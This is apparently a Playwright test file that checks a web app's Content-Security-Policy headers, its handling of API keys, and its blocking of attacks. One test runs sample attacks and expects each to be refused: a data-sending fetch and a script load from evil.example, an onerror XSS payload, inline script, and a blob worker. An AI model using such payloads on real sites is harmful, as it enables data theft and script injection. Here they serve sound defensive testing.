import { expect, test as plain } from '@playwright/test'
import { everythingKept, placesWith } from '../fixtures/everything-kept.ts'
import { test } from '../fixtures/test.ts'

const KEY = 'sk-test-good-key-0123456789abcdef'

plain('page and workers answer with their own policies', async ({ page, request, baseURL }) => {
  const scripts: string[] = []
  page.on('response', (response) => scripts.push(response.url()))
  await page.goto('/')
  await page.getByRole('button', { name: /sea otter/ }).click()
  await page.getByRole('grid', { name: 'Gallery images' }).getByRole('img').waitFor()
  const headersOf = async (url: string) => (await request.get(url)).headers()
  const html = await headersOf(baseURL ?? '/')
  expect(html['content-security-policy']).toContain("default-src 'none'; script-src 'self'")
  expect(html['content-security-policy']).toContain("require-trusted-types-for 'script'")
  expect(html['content-security-policy']).not.toMatch(/unsafe|https:/)
  expect(html).toMatchObject({
    'x-content-type-options': 'nosniff',
    'referrer-policy': 'no-referrer',
    'cross-origin-opener-policy': 'same-origin',
  })
  const policyOf = async (name: string): Promise<string> =>
    (await headersOf(scripts.find((url) => url.includes(name)) ?? ''))['content-security-policy'] ?? ''
  expect(await policyOf('engine.worker')).toContain("connect-src 'self'")
  expect(await policyOf('engine.worker')).not.toContain('https:')
  expect(await policyOf('image.worker')).not.toContain('https:')
  expect(await policyOf('api.worker')).toContain("connect-src 'self' https: http://127.0.0.1:*")
})

plain('the page refuses what an attacker would do', async ({ page }) => {
  await page.goto('/')
  const outcomes = await page.evaluate(async () => {
    const tried = async (attack: () => unknown): Promise<string> => {
      try {
        await attack()
        return 'done'
      } catch {
        return 'refused'
      }
    }
    const image = new Image()
    const loaded = new Promise((resolve, reject) => {
      image.onload = resolve
      image.onerror = reject
    })
    image.src = 'http://127.0.0.1:9/x.png'
    return {
      fetch: await tried(() => fetch('https://evil.example/?k=1')),
      local: await tried(() => fetch('http://127.0.0.1:9/')),
      html: await tried(() => (document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>')),
      script: await tried(() => (document.createElement('script').text = 'alert(1)')),
      foreignScript: await tried(() => (document.createElement('script').src = 'https://evil.example/x.js')),
      worker: await tried(() => new Worker(URL.createObjectURL(new Blob(['1'])))),
      image: await tried(() => loaded),
    }
  })
  const done = Object.entries(outcomes).filter(([, outcome]) => outcome !== 'refused')
  expect(done).toEqual([])
})

test('after a session the key is nowhere but in memory', async ({ workspace, server }) => {
  const { page, images } = workspace
  const said: string[] = []
  page.on('console', (message) => said.push(message.text()))
  await workspace.connect(server.baseUrl, KEY)
  server.faults.next('unauthorized')
  await workspace.ask('refused', { model: 'gpt-image-2' })
  await expect(workspace.results).toContainText('does not accept this key')
  await workspace.ask('accepted')
  await expect(images).toHaveCount(1)
  expect(placesWith(await everythingKept(page), KEY)).toEqual([])
  expect(placesWith(await everythingKept(page), '0123456789abcdef')).toEqual([])
  expect(said.join('\n')).not.toContain(KEY)
})
